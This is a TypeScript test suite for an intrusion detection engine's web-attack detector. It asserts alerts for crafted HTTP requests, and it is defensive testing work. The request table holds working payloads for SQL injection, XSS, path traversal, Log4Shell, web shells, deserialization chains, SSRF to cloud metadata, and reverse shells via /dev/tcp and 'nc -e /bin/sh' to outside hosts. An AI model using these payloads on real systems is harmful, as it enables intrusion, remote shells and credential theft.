/**
 * Web-attack detection end to end: crafted TCP segments through the whole engine (reassembly,
 * HTTP parsing and normalisation, the web detector, decide). Each case names the signature, the
 * packet that completed the request, and where in the request the attack was found.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { getHeapStatistics, setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { deflateSync, gzipSync } from 'node:zlib';
import { parseConfig } from '../../src/config/config.js';
import { Engine } from '../../src/engine/engine.js';
import { SECTIONS } from '../../src/engine/sections.js';
import type { AlertEvent, EngineEvent } from '../../src/output/events.js';
import { h2ClientBytes } from '../app/h2-client.js';
import { deflated, frame, OP_TEXT } from '../app/ws-client.js';
import { run, T0, type RunOutput, type TestFrame } from '../helpers.js';
import { Conn } from '../stream/segments.js';

const SQLI = 9100100;
const XSS = 9100101;
const TRAVERSAL = 9100102;
const CMDI = 9100103;
const LOG4SHELL = 9100104;
const SMUGGLING = 9100105;
const CRLF = 9100106;
const SSRF = 9100107;
const SCANNER = 9100108;
const PATTERN = 9100190;

const OK = 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok';

/** sid, pcap_cnt, location, field (or '' when none), source address. */
type Seen = [number, number, string, string, string];

function seen(alerts: readonly AlertEvent[]): Seen[] {
  return alerts.map((a) => [a.signature.sid, a.pcapCnt, (a.metadata.location ?? [''])[0], (a.metadata.field ?? [''])[0], a.srcIp]);
}

/** One connection: handshake, the request in one segment (frame 4), the answer, teardown. */
function oneRequest(request: string, yaml?: string): RunOutput {
  const c = new Conn({ t0: T0 }).handshake().send(request).serverAck().reply(OK).close();
  return run(c.frames, yaml);
}

/** One keep-alive connection: handshake, then each request in one segment and its answer (frames 4, 7, 10 …), teardown. */
function keepAlive(requests: readonly string[], yaml?: string): RunOutput {
  const c = new Conn({ t0: T0 }).handshake();
  for (const r of requests) c.send(r).serverAck().reply(OK);
  return run(c.close().frames, yaml);
}

function get(target: string, headers = ''): string {
  return `GET ${target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n${headers}\r\n`;
}

function post(type: string, body: string, headers = ''): string {
  return `POST /submit HTTP/1.1\r\nHost: shop.example\r\nContent-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body, 'latin1')}\r\n${headers}\r\n${body}`;
}

function multipart(name: string, value: string): string {
  const b = '----rampartBoundary7MA4YWxk';
  const body = `--${b}\r\nContent-Disposition: form-data; name="title"\r\n\r\nhello\r\n--${b}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n--${b}--\r\n`;
  return post(`multipart/form-data; boundary=${b}`, body);
}

/** A multipart body with one uploaded file. */
function upload(name: string, filename: string, type: string, content: string): string {
  const b = '----rampartBoundary7MA4YWxk';
  const body = `--${b}\r\nContent-Disposition: form-data; name="${name}"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${b}--\r\n`;
  return post(`multipart/form-data; boundary=${b}`, body);
}

const CLIENT = '10.0.0.21';

/** Every attack type in every place of a request: [name, request, expected sid, location, field]. */
const PLACES: readonly [string, string, number, string, string][] = [
  ['sqli in the query, encoded once', get('/search?q=%27%20OR%201%3D1--%20'), SQLI, 'query', 'q'],
  ['sqli in the query, encoded twice', get('/search?q=%2527%2520OR%25201%253D1--'), SQLI, 'query', 'q'],
  ['sqli in the query, mixed case and + for space', get('/item?id=1+UnIoN+SeLeCt+username,password+FrOm+users--'), SQLI, 'query', 'id'],
  ['sqli in a urlencoded body', post('application/x-www-form-urlencoded', 'user=admin%27--&pass=x'), SQLI, 'body', 'user'],
  ['sqli in a gzip-compressed urlencoded body', post('application/x-www-form-urlencoded', gzipSync('user=admin%27--&pass=x').toString('latin1'), 'Content-Encoding: gzip\r\n'), SQLI, 'body', 'user'],
  ['xss in a deflate-compressed JSON body', post('application/json', deflateSync('{"profile":{"bio":"<svg/onload=alert(1)>"}}').toString('latin1'), 'Content-Encoding: deflate\r\n'), XSS, 'json', 'profile.bio'],
  ['sqli in a JSON body', post('application/json', '{"filter":{"name":"x\' OR \'1\'=\'1"}}'), SQLI, 'json', 'filter.name'],
  // Applications that read the raw body as JSON whatever the header says: Go's json.Decoder, PHP's php://input, Django.
  ['sqli in JSON sent as application/octet-stream', post('application/octet-stream', '{"q":"1\' UNION SELECT password FROM users--"}'), SQLI, 'json', 'q'],
  ['sqli in JSON sent as text/plain', post('text/plain', '{"q":"1\' UNION SELECT password FROM users--"}'), SQLI, 'json', 'q'],
  ['sqli in JSON sent without a Content-Type', `POST /submit HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 45\r\n\r\n{"q":"1' UNION SELECT password FROM users--"}`, SQLI, 'json', 'q'],
  // A key sent twice: JSON.parse keeps the last value, Go's gjson and C's cJSON the first.
  ['sqli in the first of two values of one JSON key', post('application/json', '{"id":7,"q":"1\' UNION SELECT password FROM users--","q":"shoes"}'), SQLI, 'json', 'q'],
  // Bodies in charsets whose bytes hide ASCII, read as the application reads them.
  ["sqli in a form in IBM037 (EBCDIC), which ASP.NET and Django decode by the charset named", post('application/x-www-form-urlencoded; charset=ibm037', '%98=%F1%7D%40%E4%D5%C9%D6%D5%40%E2%C5%D3%C5%C3%E3%40%97%81%A2%A2%A6%96%99%84%40%C6%D9%D6%D4%40%A4%A2%85%99%A2%60%60'), SQLI, 'body', 'q'],
  ['sqli in a JSON body in UTF-16, which Jackson and Python read by its first bytes', post('application/json', Buffer.from('{"q":"1\' UNION SELECT password FROM users--"}', 'utf16le').toString('latin1')), SQLI, 'json', 'q'],
  ['xss in a text body in IBM500', post('text/plain; charset=IBM500', Buffer.from('4ca283998997a36e81938599a34df15d4c61a283998997a36e', 'hex').toString('latin1')), XSS, 'body', ''],
  // A `#` in the target: Go's net/http keeps what follows it in the query or the path.
  ['xss after a # in the query', get('/search?q=safe#%3Cscript%3Ealert(1)%3C/script%3E'), XSS, 'query', 'q'],
  ['path traversal after a # in the path', get('/download#/../../../../etc/passwd'), TRAVERSAL, 'arg_name', '#/../../../../etc/passwd'],
  // RFC 6266: servers that know `filename*` take it over `filename`.
  ['path traversal in an upload\'s extended file name (filename*=)', post('multipart/form-data; boundary=b2', '--b2\r\nContent-Disposition: form-data; name="f"; filename="a.png"; filename*=UTF-8\'\'..%2F..%2F..%2Fvar%2Fwww%2Fshell.php\r\nContent-Type: image/png\r\n\r\nx\r\n--b2--\r\n'), TRAVERSAL, 'filename', 'f'],
  // Java's Commons FileUpload takes any multipart/* body as a form.
  ['sqli in a form-data part of a multipart/mixed body', post('multipart/mixed; boundary=b1', '--b1\r\nContent-Disposition: form-data; name="q"\r\n\r\n1\' UNION SELECT password FROM users--\r\n--b1--\r\n'), SQLI, 'multipart', 'q'],
  ['sqli in a multipart field', multipart('comment', "1'; DROP TABLE users; --"), SQLI, 'multipart', 'comment'],
  ['sqli in the User-Agent', get('/', '').replace('Firefox/128.0', "Firefox/128.0' AND SLEEP(5)#"), SQLI, 'header', 'user-agent'],
  ['sqli in the Host header (sqlmap --level 5, after the address)', get('/item?id=1').replace('Host: shop.example', 'Host: 10.94.0.10) AND 2126=1119-- TRUF'), SQLI, 'header', 'host'],
  ['sqli appended to the User-Agent (behind a `#` of its own)', get('/item?id=1').replace(/User-Agent: [^\r]*/, 'User-Agent: Mozilla/5.0 (X11; Linux x86_64) #1) AND 3721=8385-- TtbA'), SQLI, 'header', 'user-agent'],
  ['sqli appended to the Referer, a stacked query', get('/item?id=1', 'Referer: http://10.94.0.10:80/item);SELECT (CASE WHEN (4055=5577) THEN 4055 ELSE 1/(SELECT 0) END)--\r\n'), SQLI, 'header', 'referer'],
  ['sqli in a cookie', get('/account', 'Cookie: session=abc123; id=1%27%20or%20%271%27%3D%271\r\n'), SQLI, 'cookie', 'id'],
  ['xss in the query', get('/search?q=<script>alert(1)</script>'), XSS, 'query', 'q'],
  ['xss in the query, encoded twice', get('/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E'), XSS, 'query', 'q'],
  ['xss in a urlencoded body', post('application/x-www-form-urlencoded', 'comment=%3Cimg+src%3Dx+OnErRoR%3Dalert(1)%3E'), XSS, 'body', 'comment'],
  ['xss in a JSON body', post('application/json', '{"profile":{"bio":"<svg/onload=alert(1)>"}}'), XSS, 'json', 'profile.bio'],
  ['xss in a multipart field', multipart('signature', '<a href="jav&#x09;ascript:alert(1)">me</a>'), XSS, 'multipart', 'signature'],
  ['xss in the Referer', get('/', 'Referer: http://shop.example/"><script>alert(1)</script>\r\n'), XSS, 'header', 'referer'],
  ['xss in a cookie', get('/', 'Cookie: pref=%3Cscript%3Ealert(document.cookie)%3C/script%3E\r\n'), XSS, 'cookie', 'pref'],
  ["a script's source through its NTFS stream name (::$DATA, wapiti)", get('/download?file=download%3A%3A%24DATA'), TRAVERSAL, 'query', 'file'],
  ["remote file inclusion: wapiti's URL cut by a NUL byte", get('/download?file=https%3A%2F%2Fwapiti3.ovh%2Fe.php%00'), TRAVERSAL, 'query', 'file'],
  ['remote file inclusion: a URL ending in ?', get('/index.php?page=http://198.51.100.7/shell.txt?'), TRAVERSAL, 'query', 'page'],
  ['remote file inclusion: an include parameter given a URL of code', get('/index.php?page=http://evil.example/shell.txt'), TRAVERSAL, 'query', 'page'],
  ['remote file inclusion: a form field given an FTP URL of PHP', post('application/x-www-form-urlencoded', 'lang=ftp%3A%2F%2F203.0.113.9%2Fc99.php'), TRAVERSAL, 'body', 'lang'],
  ['remote file inclusion: an include member nested in a JSON body', post('application/json', '{"options":{"page":"http://evil.example/shell.txt"}}'), TRAVERSAL, 'json', 'options.page'],
  ['sqli: a number OR TRUE', get('/item?id=1+OR+TRUE'), SQLI, 'query', 'id'],
  ['xss: markup inside a style element in MathML', get('/search?q=%3Cmath%3E%3Cmtext%3E%3Ctable%3E%3Cmglyph%3E%3Cstyle%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'), XSS, 'query', 'q'],
  ['path traversal in the path, encoded', get('/static/..%2f..%2f..%2f..%2fetc/passwd'), TRAVERSAL, 'path', ''],
  ["path traversal past a proxy's rules: Tomcat's ..;/ segment", get('/examples/..;/manager/html'), TRAVERSAL, 'path', ''],
  ['path traversal in the query', get('/download?file=../../../../etc/passwd'), TRAVERSAL, 'query', 'file'],
  ['path traversal in the query, encoded twice', get('/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd'), TRAVERSAL, 'query', 'file'],
  ['path traversal in a urlencoded body, backslashes', post('application/x-www-form-urlencoded', 'page=..%5C..%5Cwindows%5Cwin.ini'), TRAVERSAL, 'body', 'page'],
  ['path traversal in a JSON body', post('application/json', '{"template":"../../../../etc/shadow"}'), TRAVERSAL, 'json', 'template'],
  ['path traversal in a multipart file name', multipart('upload"; filename="../../../../var/www/shell.php', '<?php echo 1; ?>'), TRAVERSAL, 'filename', 'upload'],
  ['path traversal in a cookie', get('/', 'Cookie: lang=../../../../etc/passwd%00\r\n'), TRAVERSAL, 'cookie', 'lang'],
  ['command injection in the query', get('/ping?host=127.0.0.1%3B%20id'), CMDI, 'query', 'host'],
  ['command injection in a urlencoded body', post('application/x-www-form-urlencoded', 'ip=8.8.8.8+%26%26+whoami'), CMDI, 'body', 'ip'],
  ['command injection in a JSON body', post('application/json', '{"target":"x | nc -e /bin/sh 192.0.2.1 4444"}'), CMDI, 'json', 'target'],
  ['command injection in a multipart field', multipart('host', 'example.com$(uname -a)'), CMDI, 'multipart', 'host'],
  ['Shellshock in the User-Agent', get('/cgi-bin/status').replace(/User-Agent: [^\r]*/, "User-Agent: () { :; }; /bin/bash -c 'id'"), CMDI, 'header', 'user-agent'],
  ['OGNL injection (Struts CVE-2017-5638) in the Content-Type', get('/upload.action', "Content-Type: %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check-Struts', 'x')}.multipart/form-data\r\n"), CMDI, 'header', 'content-type'],
  ['PHP code injection: a web shell in a multipart field', multipart('page', "<?php system($_GET['c']); ?>"), CMDI, 'multipart', 'page'],
  ["Spring4Shell: a form argument bound to Spring's class loader", post('application/x-www-form-urlencoded', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(true)&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'), CMDI, 'body', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern'],
  ["Drupalgeddon2: a render array callback in a form argument's name", post('application/x-www-form-urlencoded', 'form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id'), CMDI, 'body', 'mail[#post_render][]'],
  ["expression injection: Spring Cloud Function's routing expression (CVE-2022-22963)", post('text/plain', 'x', 'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("touch /tmp/x")\r\n'), CMDI, 'header', 'spring.cloud.function.routing-expression'],
  ['template injection: Jinja2 reaching os.popen in the query', get("/hello?name=%7B%7Blipsum.__globals__.os.popen('id').read()%7D%7D"), CMDI, 'query', 'name'],
  ["ThinkPHP's routing to a framework class (CVE-2018-20062)", get('/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id'), CMDI, 'query', 's'],
  ["ThinkPHP 5.0.23's method override to its constructor", post('application/x-www-form-urlencoded', '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id'), CMDI, 'body', '_method'],
  ["a Groovy command sent to Jenkins' script console", post('application/x-www-form-urlencoded', 'script=println+%22id%22.execute%28%29.text&Submit=Run'), CMDI, 'body', 'script'],
  ["PHP code a field is evaluated as (vBulletin's widget code, CVE-2019-16759)", post('application/x-www-form-urlencoded', 'routestring=ajax/render/widget_php&widgetConfig%5Bcode%5D=echo+shell_exec%28%27id%27%29%3B+exit%3B'), CMDI, 'body', 'widgetConfig[code]'],
  ["a scanner's PHP probe posted raw (phpunit's eval-stdin.php)", post('text/plain', "<?php echo md5('phpunit'); ?>"), CMDI, 'body', ''],
  ['a PHP web shell put by WebDAV', `PUT /dav/uploads/x.php HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/octet-stream\r\nContent-Length: 29\r\n\r\n<?php system($_GET['c']); ?>\n`, CMDI, 'file', ''],
  ["a PHP web shell saved through Jupyter's contents API", post('application/json', JSON.stringify({ type: 'file', format: 'text', content: "<?php system($_GET['c']); ?>" })), CMDI, 'file', 'content'],
  ["sqli in a JSON document's content that is no saved file", post('application/json', JSON.stringify({ type: 'comment', content: "x' OR 1=1-- " })), SQLI, 'json', 'content'],
  ['a PHP web shell uploaded as a GIF image', upload('avatar', 'me.gif', 'image/gif', "GIF89a;<?php system($_GET['c']); ?>"), CMDI, 'file', 'avatar'],
  ['a JSP web shell uploaded as a binary file', upload('file', 'cmd.jsp', 'application/octet-stream', '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'), CMDI, 'file', 'file'],
  ['script in an uploaded SVG image', upload('avatar', 'me.svg', 'image/svg+xml', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="5"/></svg>'), XSS, 'file', 'avatar'],
  ['log4shell in an uploaded CSV file', upload('import', 'users.csv', 'text/csv', 'name,comment\nann,${jndi:ldap://198.51.100.7/a}\n'), LOG4SHELL, 'file', 'import'],
  ['PHP code injection: wapiti\'s exit(md5()) probe in the query', get("/search?q=%27.exit%28md5%28%27w4p1t1_md5%27%29%29%3B%2F%2F"), CMDI, 'query', 'q'],
  ['command injection in a cookie', get('/', 'Cookie: theme=dark%60id%60\r\n'), CMDI, 'cookie', 'theme'],
  ['log4shell in a custom header', get('/', 'X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}\r\n'), LOG4SHELL, 'header', 'x-api-version'],
  ['log4shell with nested lookups in the User-Agent', get('/').replace(/User-Agent: [^\r]*/, 'User-Agent: ${${lower:j}${upper:n}${::-d}${env:NONE:-i}:${lower:l}dap://198.51.100.7/a}'), LOG4SHELL, 'header', 'user-agent'],
  ['log4shell in the query, encoded', get('/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D'), LOG4SHELL, 'query', 'q'],
  ['log4shell in a JSON body', post('application/json', '{"user":"${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a}"}'), LOG4SHELL, 'json', 'user'],
  ['log4shell in a cookie', get('/', 'Cookie: JSESSIONID=${jndi:dns://198.51.100.7/x}\r\n'), LOG4SHELL, 'cookie', 'JSESSIONID'],
  ['log4shell in the Accept header', get('/', 'Accept: ${jNdI:ldap://198.51.100.7/a}\r\n'), LOG4SHELL, 'header', 'accept'],
  ['log4shell in the 301st header (servers take thousands)', get('/', `${'X-A: 1\r\n'.repeat(300)}X-Api-Version: \${jndi:ldap://198.51.100.7/a}\r\n`), LOG4SHELL, 'header', 'x-api-version'],
  [
    "sqli: sqlmap's stacked query behind an `')) AS x WHERE` boundary in a urlencoded body",
    post('application/x-www-form-urlencoded', 'username=ann%27%29%29+AS+JoGg+WHERE+5897%3D5897%3BSELECT+LIKE%28CHAR%2865%2C66%29%2CUPPER%28HEX%28RANDOMBLOB%28100000000%2F2%29%29%29%29--&password=x'),
    SQLI, 'body', 'username',
  ],
  ["sqli: sqlmap's MAKE_SET boolean in the query", get('/item?id=1%29+AND+MAKE_SET%288246%3D2012%2C6693%29+AND+%285121%3D2007'), SQLI, 'query', 'id'],
  ['xss: a JavaScript string break in the query', get("/search?q=%27-alert(1)-%27"), XSS, 'query', 'q'],
  ["xss: Burp's probe for a value written into script unquoted", get('/product?id=48e71%3balert(1)%2f%2f503466e3'), XSS, 'query', 'id'],
  ['command injection: brace expansion in the query', get('/ping?host=127.0.0.1%3B%7Buname%2C-a%7D'), CMDI, 'query', 'host'],
  ["sqli base64-encoded for an application that decodes the argument (sqlmap's base64encode)", get('/item?id=MSkgQU5EIDY4MzA9NjgzMC0tIC0%3D'), SQLI, 'query', 'id'],
  ["sqli in \\u escapes for an application that unescapes them (sqlmap's charunicodeescape)", get('/item?id=%5Cu0031%5Cu0027%5Cu0020%5Cu004F%5Cu0052%5Cu0020%5Cu0031%5Cu003D%5Cu0031%5Cu002D%5Cu002D'), SQLI, 'query', 'id'],
  ["a PHP web shell put base64-encoded through a Git host's contents API", `PUT /api/v1/repos/ann/site/contents/shell.php HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ content: Buffer.from("<?php\nsystem($_GET['c']);\n").toString('base64'), message: 'add' })}`.replace('\r\n\r\n', `\r\nContent-Length: ${JSON.stringify({ content: Buffer.from("<?php\nsystem($_GET['c']);\n").toString('base64'), message: 'add' }).length}\r\n\r\n`), CMDI, 'json', 'content'],
  ["Fastjson's JdbcRowSetImpl gadget with an LDAP data source in a JSON body", post('application/json', '{"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7:1389/Exploit","autoCommit":true}}'), CMDI, 'json', 'b.@type'],
  ["ysoserial's Commons Collections chain posted raw to JBoss' invoker servlet", post('application/x-java-serialized-object', Buffer.concat([Buffer.from([0xac, 0xed, 0, 5]), Buffer.from('sr\x002sun.reflect.annotation.AnnotationInvocationHandler\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;xpsr\x00:org.apache.commons.collections.functors.InvokerTransformer', 'latin1')]).toString('latin1')), CMDI, 'body', ''],
  ["ysoserial's chain base64-encoded in a cookie", get('/', `Cookie: rememberMe=${Buffer.concat([Buffer.from([0xac, 0xed, 0, 5]), Buffer.from('sr\x00:org.apache.commons.collections.functors.InvokerTransformer', 'latin1')]).toString('base64')}\r\n`), CMDI, 'cookie', 'rememberMe'],
  ['sqli split over a repeated argument (parameter pollution)', get('/item?id=1%20UNION/*&id=*/SELECT%20password%20FROM%20users--'), SQLI, 'query', 'id'],
  ['SSRF: a URL to the cloud metadata service in the query', get('/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/'), SSRF, 'query', 'url'],
  ['SSRF: the metadata address as one decimal number, in a JSON webhook', post('application/json', '{"hook":{"url":"http://2852039166/latest/user-data"}}'), SSRF, 'json', 'hook.url'],
  ["SSRF: GCP's metadata name in a form", post('application/x-www-form-urlencoded', 'feed=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F%3Frecursive%3Dtrue'), SSRF, 'body', 'feed'],
  ['SSRF: a gopher:// URL speaking to Redis', get('/fetch?url=gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A'), SSRF, 'query', 'url'],
  ['CRLF injection in the path: a cookie set through a redirect', get('/%0d%0aSet-Cookie:crlf=injection'), CRLF, 'path', ''],
  ['CRLF injection in the query: a second Location', get('/redirect?url=http://a%0d%0aLocation:%20http://198.51.100.7/'), CRLF, 'query', 'url'],
  ["CRLF injection: wapiti's probe, encoded twice", get('/search?q=http%253A%2F%2Fwww.google.fr%250D%250Awapiti%253A%25203.0.4%2520version'), CRLF, 'query', 'q'],
  ['CRLF injection in a cookie: a whole response', get('/', 'Cookie: lang=en%0d%0a%0d%0aHTTP/1.1%20200%20OK\r\n'), CRLF, 'cookie', 'lang'],
  ["a web shell's command parameter: whoami alone", get('/uploads/s.php?cmd=whoami'), CMDI, 'query', 'cmd'],
  ["a debug API's command member in JSON: a command with arguments", post('application/json', '{"task":{"exec":"uname -a"}}'), CMDI, 'json', 'task.exec'],
  ['a reverse shell with no separator, in a form field', post('application/x-www-form-urlencoded', 'host=bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.7%2F4444+0%3E%261'), CMDI, 'body', 'host'],
  ['netcat running a shell, the whole value of a query argument', get('/diag?target=nc%20198.51.100.7%204444%20-e%20%2Fbin%2Fsh'), CMDI, 'query', 'target'],
  // NoSQL (MongoDB) operator injection, read as SQL injection.
  ['NoSQL: a query operator in a form argument\'s name (qs, PHP, Rails read `password[$ne]` as an object)', post('application/x-www-form-urlencoded', 'username=admin&password%5B%24ne%5D=x'), SQLI, 'arg_name', 'password[$ne]'],
  ['NoSQL: $regex in a query argument\'s name', get('/login?username=admin&password[$regex]=^a'), SQLI, 'arg_name', 'password[$regex]'],
  ['NoSQL: a query operator over null in a JSON body (the login bypass)', post('application/json', '{"username":{"$ne":null},"password":{"$ne":null}}'), SQLI, 'json', 'username.$ne'],
  ['NoSQL: $where at the top of a JSON body', post('application/json', '{"$where":"sleep(5000) || true"}'), SQLI, 'json', '$where'],
  ['NoSQL: a query operator in a multipart field\'s name', multipart('password[$gt]', ''), SQLI, 'multipart', 'password[$gt]'],
  ['NoSQL: a JSON document with a query operator in a query argument', get('/api/items?filter=%7B%22owner%22%3A%7B%22%24ne%22%3Anull%7D%7D'), SQLI, 'query', 'filter'],
  ["NoSQL: a $where clause's string broken into JavaScript", get("/login?user=admin%27%20%26%26%20this.password.match(/^a.*$/)//"), SQLI, 'query', 'user'],
  ['CRLF injection as characters whose low byte is CR and LF (U+560D U+560A)', get('/?next=%E5%98%8D%E5%98%8ASet-Cookie:a=1'), CRLF, 'query', 'next'],
];

describe('web attacks in every part of a request', () => {
  for (const [name, request, sid, location, field] of PLACES) {
    it(name, () => {
      const out = oneRequest(request);
      assert.deepEqual(seen(out.alerts), [[sid, 4, location, field, CLIENT]]);
      assert.equal(out.alerts[0].action, 'blocked');
      assert.equal(out.alerts[0].destPort, 80);
    });
  }

  it("flags the seeds' three patterns by their structure", () => {
    assert.deepEqual(seen(oneRequest(get('/login?user=%27+OR+1%3D1')).alerts), [[SQLI, 4, 'query', 'user', CLIENT]]);
    assert.deepEqual(seen(oneRequest(get('/c?m=%3Cscript%3E')).alerts), [[XSS, 4, 'query', 'm', CLIENT]]);
    assert.deepEqual(seen(oneRequest(get('/c?m=x%27%3B+DROP+TABLE+users%3B+--')).alerts), [[SQLI, 4, 'query', 'm', CLIENT]]);
  });

  it('flags an ERB template probe that has no separator, quote or brace, and leaves template code in a snippet alone', () => {
    assert.deepEqual(seen(oneRequest(get('/hello?name=%3C%25%3D+7*7+%25%3E')).alerts), [[CMDI, 4, 'query', 'name', CLIENT]]);
    assert.deepEqual(seen(oneRequest(get('/hello?name=%3C%25%3D7*7%25%3E')).alerts), [[CMDI, 4, 'query', 'name', CLIENT]]);
    assert.deepEqual(seen(oneRequest(post('application/x-www-form-urlencoded', 'snippet=%3Cp%3E%3C%25%3D+%40user.name+%25%3E%3C%2Fp%3E')).alerts), []);
  });

  it('names the decoding anomalies and the SQL fingerprint in the metadata', () => {
    const out = oneRequest(get('/search?q=%2527%2520OR%25201%253D1--'));
    const m = out.alerts[0].metadata;
    assert.deepEqual(m.anomalies, ['double_encoded']);
    assert.deepEqual(m.rule, ['boolean after string break']);
    assert.deepEqual(m.sqli_fingerprint, ['s&nonc']);
    assert.deepEqual(m.evidence, ["' OR 1=1--"]);
    assert.equal(out.alerts[0].detail, 'SQL injection in query "q": boolean after string break');
    assert.equal(out.alerts[0].signature.attackType, 'sqli');
  });

  it("finds sqlmap's payloads behind tamper scripts that only some servers decode, naming the reading", () => {
    // On the wire as sqlmap sends them (its tamper output, then its own percent-encoding).
    const cases: [string, string, string[]][] = [
      ['overlongutf8', '1%C0%A9%C0%A0AND%C0%A06830%C0%BD6830%C0%AD%C0%AD%C0%A0%C0%AD', ['overlong_utf8']],
      ['apostrophemask', '1%EF%BC%87%20AND%206830%3D6830--%20-', ['best_fit']],
      ['percentage', '%1%%29%20%A%N%D%20%6%8%3%0%%3D%6%8%3%0%-%-%20%-', ['invalid_encoding']],
      ['htmlencode', '1%26%2341%3B%26%2332%3BAND%26%2332%3B6830%26%2361%3B6830%26%2345%3B%26%2345%3B%26%2332%3B%26%2345%3B', []],
      ['space2mssqlblank', '1%03OR%057596%3D7596', []],
      ['space2plus', '1%2BAND%2B4343%3D3855', []],
      ['percentage,charunicodeencode', '%u0025%u0031%u0025%u0029%u0020%u0025%u0041%u0025%u004E%u0025%u0044%u0020%u0025%u0039%u0025%u0037%u0025%u003D%u0025%u0039%u0025%u0037', ['u_encoded', 'invalid_encoding']],
      ['space2plus', '1%2BUNION%2BALL%2BSELECT%2BNULL%2CNULL--%2BMnBM', []],
    ];
    for (const [tamper, wire, anomalies] of cases) {
      const out = oneRequest(get(`/item.php?id=${wire}`));
      assert.deepEqual(seen(out.alerts), [[SQLI, 4, 'query', 'id', CLIENT]], tamper);
      assert.deepEqual(out.alerts[0].metadata.anomalies ?? [], anomalies, tamper);
    }
    assert.deepEqual(oneRequest(get('/item.php?id=%1%%29%20%A%N%D%20%6%8%3%0%%3D%6%8%3%0%-%-%20%-')).alerts[0].metadata.evidence, ['1) AND 6830=6830-- -']);
    // The traversal check reads the IIS reading too.
    assert.deepEqual(seen(oneRequest(get('/download?file=.%.%2f.%.%2f.%.%2fsecret')).alerts), [[TRAVERSAL, 4, 'query', 'file', CLIENT]]);
    // And IIS's best-fit reading of other slashes (division slash, set minus).
    assert.deepEqual(seen(oneRequest(get('/download?file=..%u2215..%u2215..%u2216app%u2215config.php')).alerts), [[TRAVERSAL, 4, 'query', 'file', CLIENT]]);
    // Escaped markup is what a safe page holds: no XSS on the unescaped reading. A stray % in a
    // search, fullwidth punctuation in Japanese text, an entity in prose: quiet.
    const benign = [
      post('application/json', '{"comment":"use &lt;script&gt; tags &amp; &#39;quotes&#39; carefully"}'),
      get('/search?q=100%+sure+or+not'),
      get('/recipes?q=1%E2%88%952+cup+sugar%E2%80%A6'),
      get('/search?q=%E6%9D%B1%E4%BA%AC%EF%BC%88%E3%81%A8%E3%81%86%E3%81%8D%E3%82%87%E3%81%86%EF%BC%89%EF%BC%9F'),
      get('/search?q=Tom+%26amp%3B+Jerry%26%2339%3Bs+best+or+worst'),
      get('/search?q=c%2B%2B+or+rust'),
      get('/calc?expr=1%2B1%3D2&phone=%2B442079460000&mail=ann%2Bshop%40example.org'),
      get('/tags?t=rock%2Band%2Broll%2Bor%2Bjazz'),
      get('/search?q=100%u0025+sure+or+not'),
    ];
    assert.deepEqual(benign.flatMap((r) => seen(oneRequest(r).alerts)), []);
  });

  it('reads an XML document under any Content-Type, as its parser does, and its element names as its own', () => {
    // nmap's http-vuln-cve2009-3960 (BlazeDS): an external entity reading /etc/passwd in AMFX sent as application/x-amf.
    const amfx = (doctype: string): string => `<?xml version="1.0" encoding="utf-8"?>${doctype}<amfx ver="3" xmlns="http://www.macromedia.com/2005/amfx"><body><object type="flex.messaging.messages.CommandMessage"><traits><string>body</string></traits><object><traits /></object><string>&x3;</string></object></body></amfx>`;
    const xxe = oneRequest(post('application/x-amf', amfx('<!DOCTYPE test [ <!ENTITY x3 SYSTEM "/etc/passwd"> ]>')));
    assert.deepEqual(seen(xxe.alerts), [[TRAVERSAL, 4, 'body', '', CLIENT]]);
    assert.deepEqual(xxe.alerts[0].metadata.rule, ['file inclusion target etc/passwd']);
    // Its <object> elements are AMFX's, not HTML's; nor are WSDL's <import> or a feed's <base>.
    assert.deepEqual(oneRequest(post('application/x-amf', amfx(''))).alerts, []);
    assert.deepEqual(oneRequest(post('text/xml', '<definitions><import namespace="urn:a" location="a.wsdl"/><base>https://shop.example/</base><frame>3</frame></definitions>')).alerts, []);
    // A script element is one in any XML (an island, SVG); in XHTML every HTML element counts.
    assert.deepEqual(seen(oneRequest(post('text/xml', '<note><x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script></note>')).alerts), [[XSS, 4, 'body', '', CLIENT]]);
